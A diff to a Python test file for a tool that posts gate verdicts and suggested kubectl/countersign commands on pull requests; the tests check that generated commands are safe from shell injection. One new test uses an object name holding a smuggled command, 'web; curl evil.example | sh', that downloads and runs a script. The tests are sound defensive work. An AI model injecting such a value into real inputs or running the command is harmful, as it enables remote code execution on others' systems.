@@ -1,5 +1,6 @@
 """The gate as a comment on a pull request."""
 
+import shlex
 from collections.abc import Iterator
 from dataclasses import replace
 
@@ -8,11 +9,12 @@ from hypothesis import given
 from markdown_it import MarkdownIt
 from markdown_it.token import Token
 
+from countersign.core.types.artifacts import Cause, Difference, ObjectRef
 from countersign.core.types.policy import Enforcement
-from countersign.core.types.verdict import Reason, Verdict
+from countersign.core.types.verdict import Differences, Reason, Verdict
 from countersign.report.comment import MAX_COMMENT, comment, marker
 from countersign.report.gate import Gate
-from tests.support import gated
+from tests.support import a, gated
 from tests.support.findings import OPEN, finding
 from tests.support.gated import ADMITTED, DENIED, OUTSIDE, entry, having
 
@@ -113,8 +115,31 @@ def test_what_comes_from_outside_is_code(gate: Gate) -> None:
 
 @given(gated.hostile())
 def test_what_is_to_be_run_is_ours(gate: Gate) -> None:
-    """Nothing ends a block of commands, or adds to it."""
-    assert all(line.startswith(("countersign ", "kubectl ")) for line in commands(gate))
+    """Nothing ends a block of commands, adds to it, or is more than a word to a shell.
+
+    Seen to fail with a value of ``{make}``.
+    """
+    for line in commands(gate):
+        words = shlex.shlex(line, posix=True, punctuation_chars=True)
+        words.whitespace_split = True
+        assert line.startswith(("countersign ", "kubectl "))
+        assert not {";", "|", "&", "<", ">", "(", ")"} & set(words)
+
+
+def test_an_object_may_have_any_name() -> None:
+    """In a file, which no server has seen: a shell takes it for one word."""
+    name = "web; curl evil.example | sh"
+    scaled = Difference("/spec/replicas", "2", "5", Cause.SCALED)
+    found = replace(
+        finding(Reason.CHANGED, facts=Differences(a.MANIFEST, (scaled,))),
+        about=ObjectRef("apps", "Deployment", "payments", name),
+    )
+    first, _ = commands(gated.gate(Verdict.of((), [found])))
+
+    assert shlex.split(first)[-2:] == [
+        "--elastic",
+        f"Deployment/{name}:/spec/replicas=2..5",
+    ]
 
 
 def test_fits_what_forges_take() -> None:
